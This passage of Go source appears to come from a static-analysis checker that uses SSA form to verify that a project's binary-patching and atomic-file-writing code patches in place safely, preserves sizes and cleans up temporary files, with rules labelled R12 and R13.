		isEnd := func(v ssa.Value) bool {
			return dependsOn(v, func(x ssa.Value) bool { return isField(x, "Offset") }) && dependsOn(v, func(x ssa.Value) bool { return isField(x, "OldSize") })
		}
		if !((isSize(bo.X) && isEnd(bo.Y)) || (isSize(bo.Y) && isEnd(bo.X))) {
			return false
		}
		return (bo.Op == token.NEQ && f.Kind == IsFalse) || (bo.Op == token.EQL && f.Kind == IsTrue)
	}}
	// the first loop's body: blocks from which both a Field load OldSize compare happen… take
	// the blocks containing the samesize test as loop bodies
	var bodies []*ssa.BasicBlock
	for e := range passEdges(host, samesize) {
		bodies = append(bodies, host.Blocks[e.from])
	}
	var sinks []ssa.CallInstruction
	site := p.applyInPlaceSite()
	if site != nil {
		sinks = site.sinks
	}
	// in a helper, "go ahead in place" is a return whose boolean result can be true
	var sinkBlocks []*ssa.BasicBlock
	okIdx := -1
	if via == nil {
		for _, s := range sinks {
			sinkBlocks = append(sinkBlocks, s.Block())
		}
	} else {
		res := host.Signature.Results()
		for i := 0; i < res.Len(); i++ {
			if isBool(res.At(i).Type()) {
				okIdx = i
			}
		}
		for _, r := range returnsOf(host) {
			if okIdx < 0 || okIdx >= len(r.Results) {
				continue
			}
			if b, isK := boolConst(retVal(r, okIdx)); isK && !b {
				continue
			}
			sinkBlocks = append(sinkBlocks, r.Block())
		}
		// and Apply writes in place only when the helper said so
		yes := Guard{Name: "the helper's verdict is true", Match: func(f Fact) bool {
			ex, ok := f.V.(*ssa.Extract)
			return ok && f.Kind == IsTrue && ex.Tuple == via.Value() && ex.Index == okIdx
		}}
		for i, sk := range sinks {
			missing, path := p.unguardedFromEntry(ap, sk, yes)
			c.Check(len(missing) == 0 && okIdx >= 0, c12RuleInPlace, fmt.Sprintf("(*lib/binpatch.PatchSet).Apply in-place write#%d behind the eligibility helper", i+1), p.Pos(sk.Pos()), "only when "+p.FName(host)+" answered true", "the input file is modified in place on a path on which the eligibility helper did not answer true", path...)
		}
	}
	if len(bodies) == 0 || len(sinks) == 0 || len(sinkBlocks) == 0 {
		c.Fail(c12RuleInPlace, "(*lib/binpatch.PatchSet).Apply eligibility loop", p.Pos(ap.Pos()), "the size-preservation test (OldSize == NewSize) or the in-place writes were not found")
	} else {
		check := func(label string, gs ...Guard) {
			del := map[edge]bool{}
			for _, g := range gs {
				for e := range passEdges(host, g) {
					del[e] = true
				}
			}
			pred := map[int]int{}
			seen := reach(host, bodies, del, pred)
			bad := false
			var path []string
			for _, sb := range sinkBlocks {
				if seen[sb.Index] {
					bad = true
					path = p.witness(host, pred, sb.Index)
				}
			}
			c.Check(!bad, c12RuleInPlace, "(*lib/binpatch.PatchSet).Apply in-place requires "+label, p.Pos(sinks[0].Pos()), "every loop path to the in-place writes passes "+label, "the in-place writes are reachable for a patch that is neither size-preserving nor ("+label+")", path...)
		}
		check("size-preserving or last patch", samesize, isLast)
		check("size-preserving or ending at EOF", samesize, atEOF)
	}
	// the in-place writes also need canOverwrite (regular file, same inode, no hard links)
	// on every path — also when the output name equals the input name
	{
		can := p.callGuard("canOverwrite()==true", []string{"lib/binpatch.canOverwrite"}, -1, IsTrue, nil)
		lst := p.callGuard("Lstat err==nil", []string{"os.Lstat", "os.Stat"}, 1, IsNil, nil)
		for i, s := range sinks {
			missing, path := p.unguardedFromEntry(ap, s, lst)
			if m2, p2 := p.overwriteMissing(ap, s); len(m2) > 0 {
				missing, path = append(missing, m2...), p2
			}
			_ = can
			c.Check(len(missing) == 0, c12RuleInPlace, fmt.Sprintf("(*lib/binpatch.PatchSet).Apply in-place write#%d under canOverwrite", i+1), p.Pos(s.Pos()), "in-place only when canOverwrite proved the target is the same, singly linked regular file", fmt.Sprintf("the input file is modified in place on a path without %v (a hard-linked or replaced output path would be corrupted / left unpatched)", missing), path...)
		}
	}
	// Truncate size is either the original size or Offset+NewSize of the last patch
	if site != nil {
		for _, tr := range site.truncs {
			ok := true
			args := tr.call.Common().Args
			for _, fv := range site.expand(fnVal{tr.fn, args[len(args)-1]}) {
				if _, isPhi := fv.v.(*ssa.Phi); isPhi {
					continue
				}
				lv := fv.v
				if call, isCall := lv.(*ssa.Call); isCall && strings.HasSuffix(p.calleeName(call.Common()), ".Size") {
					continue
				}
				if isFileSize(lv) {
					continue
				}
				if k, isK := constInt(lv); isK && k == 0 {
					// the size of a refusal (`return 0, false`), never used for truncating
					continue
				}
				if dependsOn(lv, func(x ssa.Value) bool { return isField(x, "Offset") }) && dependsOn(lv, func(x ssa.Value) bool { return isField(x, "NewSize") }) {
					continue
				}
				ok = false
			}
			c.Check(ok, c12RuleInPlace, "(*lib/binpatch.PatchSet).Apply truncate size", p.Pos(tr.call.Pos()), "final size = old size, or Offset+NewSize of the last patch", "the file is truncated to a size that is neither the old size nor the end of the last patch")
		}
	}
	// rewrite path: out-of-order patches rejected before copying; goes through atomicfile
	ordered := Guard{Name: "delta>=0", Match: func(f Fact) bool {
		bo, ok := f.V.(*ssa.BinOp)
		if !ok || !isIntConst(bo.Y, 0) {
			return false
		}
		isDelta := dependsOn(bo.X, func(x ssa.Value) bool { return isField(x, "Offset") })
		if !isDelta {
			return false
		}
		return (bo.Op == token.LSS && f.Kind == IsFalse) || (bo.Op == token.GEQ && f.Kind == IsTrue)
	}}
	n := 0
	for _, ci := range p.callsIn(rw, "io.CopyN") {
		n++
		missing, path := p.unguardedFromEntry(rw, ci, ordered)
		c.Check(len(missing) == 0, c12RuleInPlace, fmt.Sprintf("(*lib/binpatch.PatchSet).applyRewrite ordered-before-copy#%d", n), p.Pos(ci.Pos()), "patches out of order are rejected before copying", "the rewrite copies data for a patch whose offset precedes the previous one (negative delta)", path...)
	}
	c.Check(n >= 1, c12RuleInPlace, "(*lib/binpatch.PatchSet).applyRewrite copies between patches", p.Pos(rw.Pos()), "", "no CopyN between patches found")
	c.Check(len(p.callsIn(rw, "lib/atomicfile.New")) == 1, c12RuleInPlace, "(*lib/binpatch.PatchSet).applyRewrite uses atomicfile", p.Pos(rw.Pos()), "", "the rewrite path does not go through lib/atomicfile")
	// the old bytes are skipped by exactly OldSize
	okSkip := false
	for _, ci := range p.callsIn(rw, "(*os.File).Seek") {
		if isField(ci.Common().Args[1], "OldSize") || dependsOn(ci.Common().Args[1], func(x ssa.Value) bool { return isField(x, "OldSize") }) {
			okSkip = true
		}
	}
	c.Check(okSkip, c12RuleInPlace, "(*lib/binpatch.PatchSet).applyRewrite skips OldSize", p.Pos(rw.Pos()), "", "the rewrite path does not skip exactly OldSize bytes of the input for each patch")
}

// ------------------------------------------------------------------------------ R12h / R12i

// c12Aligned: headers and blobs of a PatchSet are parallel slices; whatever permutes one must
// permute the other in the same object. The sorter swaps both fields of the PatchSet it wraps,
// so it must wrap the receiver itself or a copy whose two slices were both copied.
func c12Aligned(c *Ctx) {
	p := c.P
	c.Rule("R12h", "headers and blobs are permuted together: the sorter wraps the set itself or a copy of both slices", 1)
	c.Rule("R12i", "the hard-link probe asserts FileInfo.Sys() to the type the os package returns", 1)
	n := 0
	for _, fn := range p.pkgFuncs("lib/binpatch") {
		for _, ci := range p.callsIn(fn, "sort.Sort", "sort.Stable") {
			n++
			key := fmt.Sprintf("%s sorts the set#%d", p.FName(fn), n)
			c.Analysed(p.FName(fn))
			// the PatchSet pointer stored in the sorter literal
			var ps ssa.Value
			arg := stripConv(ci.Common().Args[0])
			if l, ok := arg.(*ssa.UnOp); ok && l.Op == token.MUL {
				if a, ok := l.X.(*ssa.Alloc); ok {
					for _, r := range *a.Referrers() {
						if fa, ok := r.(*ssa.FieldAddr); ok {
							for _, rr := range *fa.Referrers() {
								if st, ok := rr.(*ssa.Store); ok && st.Addr == ssa.Value(fa) {
									ps = st.Val
								}
							}
						}
					}
				}
			}
			if ps == nil {
				c.Undecided("R12h", key, p.Pos(ci.Pos()), "the PatchSet wrapped by the sorter was not identified")
				continue
			}
			ok := false
			why := ""
			switch x := ps.(type) {
			case *ssa.Parameter:
				ok = true // the set itself: both fields swapped in place
			case *ssa.Alloc:
				// a local copy: both Patches and Blobs must be re-assigned with fresh slices
				fresh := map[string]bool{}
				for _, r := range *x.Referrers() {
					fa, isFA := r.(*ssa.FieldAddr)
					if !isFA {
						continue
					}
					_, fld, _ := p.fieldAddr(fa)
					for _, rr := range *fa.Referrers() {
						if st, isSt := rr.(*ssa.Store); isSt && st.Addr == ssa.Value(fa) {
							if call, isCall := st.Val.(*ssa.Call); isCall {
								if bi, isB := call.Call.Value.(*ssa.Builtin); isB && bi.Name() == "append" {
									fresh[fld] = true
								}
							}
							if _, isMk := st.Val.(*ssa.MakeSlice); isMk {
								fresh[fld] = true
							}
						}
					}
				}
				ok = fresh["Patches"] && fresh["Blobs"]
				why = fmt.Sprintf("copy with fresh slices for %v only", sortedKeys(fresh))
			default:
				why = "neither the receiver nor a local copy"
			}
			c.Check(ok, "R12h", key, p.Pos(ci.Pos()), "sorter wraps the set itself (or a copy of both slices)", "the sorter swaps headers and blobs of the PatchSet it wraps, but that object shares one of the two slices with the caller's set ("+why+"): the caller's headers and blobs no longer line up after the sort, so a later Dump or Apply of the same set pairs patches with the wrong contents")
		}
	}
	if n < 1 {
		c.Undecided("R12h", "sort sites", "-", "no sort of a PatchSet found (1 confirmed by reading: Dump)")
	}
	// FileInfo.Sys()
	m := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ta, ok := in.(*ssa.TypeAssert)
				if !ok {
					continue
				}
				call, _ := resultOf(ta.X)
				if call == nil || !call.Common().IsInvoke() || call.Common().Method.Name() != "Sys" || !strings.HasSuffix(call.Common().Value.Type().String(), "fs.FileInfo") {
					continue
				}
				m++
				key := fmt.Sprintf("%s asserts FileInfo.Sys()#%d", p.FName(fn), m)
				c.Analysed(p.FName(fn))
				c.Check(ta.AssertedType.String() == "*syscall.Stat_t", "R12i", key, p.Pos(ta.Pos()), "*syscall.Stat_t", "FileInfo.Sys() is asserted to "+ta.AssertedType.String()+", which the os package never returns (it returns *syscall.Stat_t on unix): the assertion always fails, hasLinks reports no extra links, and a hard-linked file is patched in place under all of its names")
			}
		}
	}
	if m < 1 {
		c.Undecided("R12i", "FileInfo.Sys() assertions", "-", "none found (1 confirmed by reading: binpatch.hasLinks)")
	}
}

// binpatchRewriteFn: the rewrite strategy of lib/binpatch - applyRewrite while that name exists,
// otherwise the one function of the package that creates its output through atomicfile.New.
func binpatchRewriteFn(p *Prog) *ssa.Function {
	if fn := p.Func("lib/binpatch.(*PatchSet).applyRewrite"); fn != nil {
		return fn
	}
	var out *ssa.Function
	for _, fn := range p.pkgFuncs("lib/binpatch") {
		if len(p.callsIn(fn, "lib/atomicfile.New")) > 0 {
			if out != nil {
				return nil
			}
			out = fn
		}
	}
	return out
}
