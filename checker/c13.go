package main

// C13 — interrupted output never leaves a torn or missing file.

import (
	"fmt"
	"go/token"
	"go/types"
	"sort"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C13",
		Meta: propMeta{
			Explanation: "Decides the write-then-rename protocol structurally: (R13a) inside lib/atomicfile the destination name is used by exactly one filesystem call, os.Rename(temp, dest), which is preceded by a checked Close of the temp file and whose success guards Commit's nil return; nothing removes, truncates or creates the destination; the temp file is created in filepath.Dir(dest); Close removes the temp; a direct os.Create happens only for special files. (R13b) typestate over every acquisition of an AtomicFile in the module: on every path to a return the file is committed, closed (incl. deferred), returned or stored — so no temp file survives a handled error; and nothing is written after Commit. (R13c) functions reachable from any Transformer.Apply / binpatch Apply never create or truncate files except through lib/atomicfile, and the source *os.File is written only on the in-place path guarded by canOverwrite. (R13d) errors of the copy/write calls in the rewrite path are propagated before Commit. (R13e) between acquiring an AtomicFile and committing it, the error of every fallible step is examined and its failure edge cannot reach Commit. (R13g) no io.Copy / io.CopyBuffer on the paths of PatchSet.Apply reads from an io.LimitReader without its byte count being used (io.CopyN reports a short source; control ctl/bufseek.CopyPart); (R13h) OpenForPatching opens the input read-write, and WriteInPlace hands the source on as the output, only behind an equality of the two path strings. (R13i) module-wide, no deferred closure branches on a captured variable that nothing can assign once the defer statement has run (named results excepted): such a clean-up never runs and leaves the temporary file behind (positive control testdata/ctl/deadguard). (R13j) in lib/pgptools, from the `size >= 0` edge of the size probe no successful return is reachable without an io.CopyN whose count derives from the probed size and whose error is looked at: a definite-length literal packet holds exactly the announced number of bytes or the merge fails before the commit. (R13f) wherever a function reachable from the sign commands or a Transformer.Apply finishes an output encoder itself (armor, clearsign, gzip, zlib, tar, zip, base64: Close; bufio.Writer: Flush), at least one finishing call has its error used: the final bytes of what Transformer.Apply commits were written, or the failure is reported.",
			NotDecided:  "what the kernel does at each crash instant (rename atomicity and ordering are assumed from POSIX); Windows semantics; the 4-byte in-place Fixup the sign commands run on the already-committed output.",
			Assumptions: []string{"rename(2) within one directory is atomic and replaces the destination", "a finalizer is not a handled-error cleanup (it may never run)"},
		},
		Run: runC13,
	})
}

// implementersOf lists named module types (T or *T) implementing the interface.
func (p *Prog) implementersOf(iface *types.Interface) []types.Type {
	var out []types.Type
	for _, pk := range p.Roots {
		sc := pk.Types.Scope()
		for _, n := range sc.Names() {
			tn, ok := sc.Lookup(n).(*types.TypeName)
			if !ok || tn.IsAlias() {
				continue
			}
			if _, isIface := tn.Type().Underlying().(*types.Interface); isIface {
				continue
			}
			if types.Implements(tn.Type(), iface) {
				out = append(out, tn.Type())
			} else if types.Implements(types.NewPointer(tn.Type()), iface) {
				out = append(out, types.NewPointer(tn.Type()))
			}
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

func (p *Prog) methodOf(t types.Type, name string) *ssa.Function {
	obj, _, _ := types.LookupFieldOrMethod(t, true, nil, name)
	if obj == nil {
		// unexported lookups need the package
		if n, ok := derefNamed(t); ok {
			obj, _, _ = types.LookupFieldOrMethod(t, true, n.Obj().Pkg(), name)
		}
	}
	f, _ := obj.(*types.Func)
	return p.FuncOf(f)
}

func derefNamed(t types.Type) (*types.Named, bool) {
	if pt, ok := t.(*types.Pointer); ok {
		t = pt.Elem()
	}
	n, ok := t.(*types.Named)
	return n, ok
}

func (p *Prog) ifaceNamed(pkgRel, name string) *types.Interface {
	pk := p.Pkg(pkgRel)
	if pk == nil {
		return nil
	}
	tn, _ := pk.Types.Scope().Lookup(name).(*types.TypeName)
	if tn == nil {
		return nil
	}
	it, _ := tn.Type().Underlying().(*types.Interface)
	return it
}

// moduleReach: functions of the module reachable from roots through static calls,
// closures, and invoke-mode calls on interfaces *declared in the module* (resolved to
// module implementers). Standard-library interfaces (io.Writer…) are not followed.
func (p *Prog) moduleReach(roots []*ssa.Function, skipPkg map[string]bool) map[*ssa.Function]bool {
	seen := map[*ssa.Function]bool{}
	var work []*ssa.Function
	push := func(f *ssa.Function) {
		if f == nil || f.Blocks == nil || seen[f] {
			return
		}
		if pk := pkgOf(f); pk == nil || !p.InModule(pk) || skipPkg[p.Rel(pk.Path())] {
			return
		}
		seen[f] = true
		work = append(work, f)
	}
	for _, r := range roots {
		push(r)
	}
	for len(work) > 0 {
		f := work[0]
		work = work[1:]
		for _, a := range f.AnonFuncs {
			push(a)
		}
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				c := ci.Common()
				if sc := c.StaticCallee(); sc != nil {
					push(sc)
					continue
				}
				if c.IsInvoke() && c.Method.Pkg() != nil && p.InModule(c.Method.Pkg()) {
					if it, ok := c.Value.Type().Underlying().(*types.Interface); ok {
						for _, t := range p.implementersOf(it) {
							push(p.methodOf(t, c.Method.Name()))
						}
					}
				}
			}
		}
	}
	return seen
}

var fsPathCalls = map[string][]int{ // callee -> indices of path arguments
	"os.Remove": {0}, "os.RemoveAll": {0}, "os.Rename": {0, 1}, "os.Create": {0}, "os.OpenFile": {0},
	"os.WriteFile": {0}, "io/ioutil.WriteFile": {0}, "os.Truncate": {0}, "os.Chmod": {0}, "os.Link": {0, 1},
	"os.Symlink": {0, 1}, "os.Mkdir": {0}, "os.MkdirAll": {0}, "os.Chown": {0}, "os.Chtimes": {0},
}

func runC13(c *Ctx) {
	p := c.P
	const (
		ra = "R13a"
		rb = "R13b"
		rc = "R13c"
		rd = "R13d"
	)
	c.Rule(ra, "in lib/atomicfile the destination name reaches exactly one filesystem call — os.Rename(temp, dest) — after a checked Close; Commit succeeds only if Rename did; temp lives in filepath.Dir(dest); Close removes the temp; os.Create only for special files", 6)
	c.Rule(rb, "every acquired AtomicFile is committed, closed (incl. deferred), returned or stored on every path to a return; no write after Commit", 5)
	c.Rule(rc, "code reachable from Transformer.Apply / PatchSet.Apply creates or truncates files only through lib/atomicfile; the source file is written only under canOverwrite", 8)
	c.Rule(rd, "in the rewrite path every error of a copy/seek/write call is propagated before Commit", 5)
	c.Rule("R13e", "between acquiring an AtomicFile and committing it, every fallible step's error is examined and its failure edge cannot reach Commit", 8)
	c.Rule("R13g", "on the paths of PatchSet.Apply a copy of a known number of bytes notices a source that ends early", 0)
	{
		var roots []*ssa.Function
		for _, spec := range []string{"lib/binpatch.(*PatchSet).Apply", "signers.ApplyBinPatch"} {
			if f := p.Func(spec); f != nil {
				roots = append(roots, f)
			}
		}
		fs := boundedCopiesChecked(p, p.moduleReach(roots, nil))
		for _, f := range fs {
			c.Check(f.OK, "R13g", f.Key, f.Pos, "", f.Detail)
		}
		if len(fs) == 0 {
			c.Note("R13g: no copy through an io.LimitReader on the paths of PatchSet.Apply (io.CopyN is used)")
		}
	}
	c.runControl("R13g unchecked bounded copy control (ctl/bufseek.CopyPart)", "bufseek.CopyPart", func(cp *Prog) []gFinding { return boundedCopiesChecked(cp, nil) })
	c.Rule("R13j", "a PGP literal packet of definite length is filled with exactly the probed number of bytes (io.CopyN of the probed size, error looked at)", 1)
	for _, f := range probedLengthCopiedExactly(p) {
		c.Check(f.OK, "R13j", f.Key, f.Pos, "", f.Detail)
	}
	c.Rule("R13i", "no deferred clean-up is conditional on a variable that nothing can assign once the defer is registered (module-wide)", 0)
	for _, f := range deferredGuardsLive(p) {
		c.Check(f.OK, "R13i", f.Key, f.Pos, "", f.Detail)
	}
	c.runControl("R13i dead deferred guard control (ctl/deadguard.Copy)", "deadguard.Copy", deferredGuardsLive)
	c.Rule("R13h", "the input is written in place only when the output is named by the same string", 2)
	for _, f := range inPlaceOnlyForTheSameName(p) {
		c.Check(f.OK, "R13h", f.Key, f.Pos, "", f.Detail, f.Path...)
	}
	c.Rule("R13f", "on the paths of the sign commands and of Transformer.Apply, an encoder that writes its last bytes when it is finished (armor, gzip, zlib, tar, zip, base64, bufio) has the error of at least one Close / Flush looked at by the function that finishes it", 5)
	{
		var roots13f []*ssa.Function
		if tr := p.ifaceNamed("signers", "Transformer"); tr != nil {
			for _, t := range p.implementersOf(tr) {
				if f := p.methodOf(t, "Apply"); f != nil {
					roots13f = append(roots13f, f)
				}
			}
		}
		for _, spec := range []string{"lib/binpatch.(*PatchSet).Apply", "signers.ApplyBinPatch", "cmdline/token.signCmd", "cmdline/remotecmd.signCmd"} {
			if f := p.Func(spec); f != nil {
				roots13f = append(roots13f, f)
			}
		}
		within := p.moduleReach(roots13f, nil)
		for _, f := range encodersFinishedWithError(p, within) {
			c.Check(f.OK, "R13f", f.Key, f.Pos, "", f.Detail)
		}
	}
	c.runControl("R13f deferred encoder close control (ctl/deferr.Armor)", "deferr.Armor", func(cp *Prog) []gFinding { return encodersFinishedWithError(cp, nil) })

	afPkg := p.SSAPkg("lib/atomicfile")
	if afPkg == nil {
		c.Undecided(ra, "lib/atomicfile", "-", "package not found")
		return
	}
	isDestName := func(v ssa.Value) bool {
		return dependsOn(v, func(x ssa.Value) bool { return p.isFieldOf(x, "lib/atomicfile.atomicFile", "name") })
	}
	isTempName := func(v ssa.Value) bool {
		return dependsOn(v, func(x ssa.Value) bool {
			if call, ok := x.(*ssa.Call); ok && p.calleeName(call.Common()) == "(*os.File).Name" {
				return true
			}
			return false
		})
	}
	// ---- R13a
	var renames []*ssa.Call
	for _, fn := range p.Funcs {
		if pkgOf(fn) == nil || p.Rel(pkgOf(fn).Path()) != "lib/atomicfile" {
			continue
		}
		c.Analysed(p.FName(fn))
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				name := p.calleeName(call.Common())
				idxs, ok := fsPathCalls[name]
				if !ok {
					continue
				}
				n++
				key := fmt.Sprintf("%s %s#%d", p.FName(fn), name, n)
				usesDest := false
				for _, i := range idxs {
					if i < len(call.Call.Args) && isDestName(call.Call.Args[i]) {
						usesDest = true
					}
				}
				switch {
				case name == "os.Rename":
					okShape := isTempName(call.Call.Args[0]) && !isDestName(call.Call.Args[0]) && isDestName(call.Call.Args[1])
					c.Check(okShape, ra, key, p.Pos(call.Pos()), "os.Rename(temp, dest)", "rename is not temp -> destination")
					if okShape {
						renames = append(renames, call)
					}
				case usesDest:
					c.Fail(ra, key, p.Pos(call.Pos()), fmt.Sprintf("%s is applied to the destination path: between this call and the rename a crash leaves no file (or a truncated one) where one existed", name))
				case name == "os.Create" || name == "os.OpenFile":
					// direct (non-atomic) open: only for special files
					// ... decided here (os.Stat succeeded and says not regular) or by a classifier of the
					// package that answers true only then (its returns are checked below)
					notReg, statOK := c13SpecialGuards(p)
					missing, path := p.unguardedFromEntry(fn, call, notReg, statOK)
					if len(missing) > 0 {
						for _, h := range c13Classifiers(p) {
							g := p.callGuard(p.FName(h)+"(path)==true", []string{p.FName(h)}, -1, IsTrue, nil)
							if m2, p2 := p.unguardedFromEntry(fn, call, g); len(m2) == 0 {
								missing, path = m2, p2
							}
						}
					}
					c.Check(len(missing) == 0, ra, key, p.Pos(call.Pos()), "direct open only for special files", "regular files are opened directly instead of write-then-rename", path...)
				default:
					c.Pass(ra, key, p.Pos(call.Pos()), name+" on the temporary file")
				}
			}
		}
	}
	commit := p.Func("lib/atomicfile.(*atomicFile).Commit")
	if commit == nil {
		c.Undecided(ra, "(*atomicFile).Commit", "-", "function not found")
	} else {
		var rn *ssa.Call
		for _, r := range renames {
			if r.Parent() == commit {
				rn = r
			}
		}
		if rn == nil {
			c.Fail(ra, "(*lib/atomicfile.atomicFile).Commit rename", p.Pos(commit.Pos()), "Commit does not rename the temporary file over the destination")
		} else {
			closeOK := p.callGuard("File.Close()==nil", []string{"(*os.File).Close"}, -1, IsNil, nil)
			missing, path := p.unguardedFromEntry(commit, rn, closeOK)
			c.Check(len(missing) == 0, ra, "(*lib/atomicfile.atomicFile).Commit close-before-rename", p.Pos(rn.Pos()), "temp file closed (error checked) before rename", "rename is reachable without a successful Close of the temp file (unflushed data may be committed)", path...)
			renameOK := p.callGuard("Rename()==nil", []string{"os.Rename"}, -1, IsNil, nil)
			for i, r := range p.successReturns(commit) {
				missing, path := p.unguardedFromEntry(commit, r, renameOK, closeOK)
				c.Check(len(missing) == 0, ra, fmt.Sprintf("(*lib/atomicfile.atomicFile).Commit success-return#%d", i+1), p.Pos(r.Pos()), "Commit reports success only after Close and Rename succeeded", fmt.Sprintf("Commit can return nil without %v", missing), path...)
			}
		}
	}
	if nw := p.Func("lib/atomicfile.New"); nw == nil {
		c.Undecided(ra, "atomicfile.New", "-", "function not found")
	} else {
		tmp := p.callsIn(nw, "io/ioutil.TempFile", "os.CreateTemp")
		if len(tmp) != 1 {
			c.Fail(ra, "lib/atomicfile.New tempfile", p.Pos(nw.Pos()), fmt.Sprintf("%d temp-file creations, expected 1", len(tmp)))
		} else {
			okDir := atomicTempInDestDir(p, nw, tmp[0])
			c.Check(okDir, ra, "lib/atomicfile.New tempdir", p.Pos(tmp[0].Pos()), "temp file created in filepath.Dir(dest): same filesystem, rename is atomic", "temp file is not created in the destination's directory (rename may cross filesystems / not be atomic)")
		}
	}
	// the classifier (isSpecial today): true only for a path that RESOLVES (os.Stat, following links) to a non-regular file
	for _, sp := range c13Classifiers(p) {
		notReg, statOK := c13SpecialGuards(p)
		n := 0
		for _, r := range returnsOf(sp) {
			if b, ok := boolConst(retVal(r, 0)); ok && !b {
				continue
			}
			n++
			missing, path := p.trueReturnMissing(sp, r, 0, notReg, statOK)
			c.Check(len(missing) == 0, ra, fmt.Sprintf("%s true-return#%d", p.FName(sp), n), p.Pos(r.Pos()), "special only if os.Stat (following symlinks) says not regular", fmt.Sprintf("%s can return true without %v: e.g. a symlink to a regular file would be opened directly and truncated in place", p.FName(sp), missing), path...)
		}
	}
	if cl := p.Func("lib/atomicfile.(*atomicFile).Close"); cl == nil {
		c.Undecided(ra, "(*atomicFile).Close", "-", "function not found")
	} else {
		rm := p.callsIn(cl, "os.Remove")
		ok := len(rm) == 1 && isTempName(rm[0].Common().Args[0]) && !isDestName(rm[0].Common().Args[0])
		pos := p.Pos(cl.Pos())
		if len(rm) > 0 {
			pos = p.Pos(rm[0].Pos())
		}
		// the remove is on every path where File != nil
		if ok {
			g := Guard{Name: "File != nil", Match: func(f Fact) bool { return f.Kind == NonNil && p.isFieldOf(f.V, "lib/atomicfile.atomicFile", "File") }}
			del := passEdges(cl, g)
			// from the File!=nil edges every return passes the Remove
			for e := range del {
				start := cl.Blocks[e.from].Succs[e.succ]
				for _, r := range returnsOf(cl) {
					// can we reach r from start without executing rm?
					if start == rm[0].Block() {
						continue
					}
					seen := reach(cl, []*ssa.BasicBlock{start}, nil, nil)
					_ = seen
					// delete edges into the rm block: is r still reachable?
					blocked := map[edge]bool{}
					for _, b := range cl.Blocks {
						for si, s := range b.Succs {
							if s == rm[0].Block() {
								blocked[edge{b.Index, si}] = true
							}
						}
					}
					if reach(cl, []*ssa.BasicBlock{start}, blocked, nil)[r.Block().Index] {
						ok = false
					}
				}
			}
		}
		c.Check(ok, ra, "(*lib/atomicfile.atomicFile).Close removes-temp", pos, "Close unlinks the temporary file on every open path", "Close does not always unlink the temporary file")
	}

	// ---- R13b typestate over all acquisitions
	rel := map[string]bool{"Close": true, "Commit": true}
	acqNames := map[string][2]int{ // callee -> (result idx, err idx)
		"lib/atomicfile.New": {0, 1}, "lib/atomicfile.WriteAny": {0, 1}, "lib/atomicfile.WriteInPlace": {0, 1},
	}
	for _, fn := range p.Funcs {
		n := map[string]int{}
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				call, ok := in.(*ssa.Call)
				if !ok {
					continue
				}
				name := p.calleeName(call.Common())
				idx, ok := acqNames[name]
				if !ok {
					continue
				}
				c.Analysed(p.FName(fn))
				n[name]++
				key := fmt.Sprintf("%s acquires %s#%d", p.FName(fn), name, n[name])
				// `return New(path)` — returned directly
				direct := false
				for _, r := range *call.Referrers() {
					if _, ok := r.(*ssa.Return); ok {
						direct = true
					}
				}
				if direct {
					c.PassTrivial(rb, key, p.Pos(call.Pos()), "returned to the caller")
					continue
				}
				leaks, res := p.leaksOf(fn, call, idx[0], idx[1], rel)
				if len(leaks) == 0 {
					c.Pass(rb, key, p.Pos(call.Pos()), "released on every path")
				} else {
					pos := p.Pos(call.Pos())
					where := ""
					for _, l := range leaks {
						if l.Ret != nil {
							where += " " + p.Pos(l.Ret.Pos())
						}
					}
					c.Fail(rb, key, pos, fmt.Sprintf("the file is neither committed, closed nor returned on %d path(s) to a return (at%s): the temporary file is left next to the output", len(leaks), where), leaks[0].Path...)
				}
				// R13e: Commit only after every fallible step between acquisition and Commit succeeded
				if res != nil {
					c13CommitAfterSuccess(c, fn, call, res, key)
				}
				// no write after Commit
				if res != nil {
					set, _ := aliasesOf(res)
					for _, b2 := range fn.Blocks {
						for _, in2 := range b2.Instrs {
							ci, ok := in2.(*ssa.Call)
							if !ok || !p.isMethodCallOn(ci, set, map[string]bool{"Commit": true}) {
								continue
							}
							bad := false
							for _, b3 := range fn.Blocks {
								for _, in3 := range b3.Instrs {
									ci3, ok := in3.(*ssa.Call)
									if !ok || ci3 == ci {
										continue
									}
									if !reachableAfter(fn, ci, ci3, nil, nil) {
										continue
									}
									if p.isMethodCallOn(ci3, set, map[string]bool{"Close": true, "Commit": true}) {
										continue
									}
									// any other use of the file after Commit: method call or passed to a callee (io.Copy(f, …))
									if usesValue(ci3, set) {
										bad = true
									}
								}
							}
							c.Check(!bad, rb, key+" no-write-after-commit", p.Pos(ci.Pos()), "Commit is the last operation on the file", "the file is written after Commit (bytes never reach the destination)")
						}
					}
				}
			}
		}
	}

	// ---- R13c who writes files from Apply
	tr := p.ifaceNamed("signers", "Transformer")
	var roots []*ssa.Function
	if tr == nil {
		c.Undecided(rc, "signers.Transformer", "-", "interface not found")
	} else {
		for _, t := range p.implementersOf(tr) {
			if f := p.methodOf(t, "Apply"); f != nil {
				roots = append(roots, f)
				c.PassTrivial(rc, "Transformer.Apply implementation "+p.FName(f), p.Pos(f.Pos()), "enumerated")
			}
		}
	}
	for _, spec := range []string{"lib/binpatch.(*PatchSet).Apply", "signers.ApplyBinPatch"} {
		if f := p.Func(spec); f != nil {
			roots = append(roots, f)
		} else {
			c.Undecided(rc, spec, "-", "function not found")
		}
	}
	reachSet := p.moduleReach(roots, map[string]bool{"lib/atomicfile": true})
	var fns []*ssa.Function
	for f := range reachSet {
		fns = append(fns, f)
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	creators := map[string]bool{"os.Create": true, "os.OpenFile": true, "os.WriteFile": true, "io/ioutil.WriteFile": true, "os.Rename": true, "os.Remove": true, "os.Truncate": true, "os.CreateTemp": true, "io/ioutil.TempFile": true}
	nReach := 0
	for _, fn := range fns {
		nReach++
		c.Analysed(p.FName(fn))
		n := 0
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				name := p.calleeName(ci.Common())
				if !creators[name] {
					continue
				}
